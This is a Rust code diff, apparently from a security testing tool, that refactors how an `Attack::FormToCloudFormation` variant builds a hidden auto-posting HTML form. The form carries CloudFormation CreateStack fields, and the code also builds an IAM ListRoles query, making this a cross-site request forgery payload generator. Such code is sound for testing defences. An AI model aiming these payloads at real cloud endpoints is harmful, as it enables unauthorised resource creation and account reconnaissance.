@@ -142,14 +142,12 @@ impl Attack {
         let roles = format!("?Action=ListRoles&Version=2010-05-08&{}", credential("test", "iam"));
         match self {
             Self::FormToCloudFormation => {
-                let fields: String = CREATE_STACK
-                    .split('&')
-                    .map(|field| {
-                        let (name, value) = field.split_once('=').unwrap();
-                        let value = percent_encoding::percent_decode_str(value).decode_utf8();
-                        format!("<input name='{name}' value='{}'>", value.unwrap())
-                    })
-                    .collect();
+                let fields = CREATE_STACK.split('&').map(|field| {
+                    let (name, value) = field.split_once('=').unwrap();
+                    let value = percent_encoding::percent_decode_str(value).decode_utf8();
+                    format!("<input name='{name}' value='{}'>", value.unwrap())
+                });
+                let fields = fields.collect::<Vec<_>>().concat();
                 let form = format!(
                     "<iframe name=frame></iframe><form method=post target=frame \
                      action='{endpoint}/?{}'>{fields}</form>",
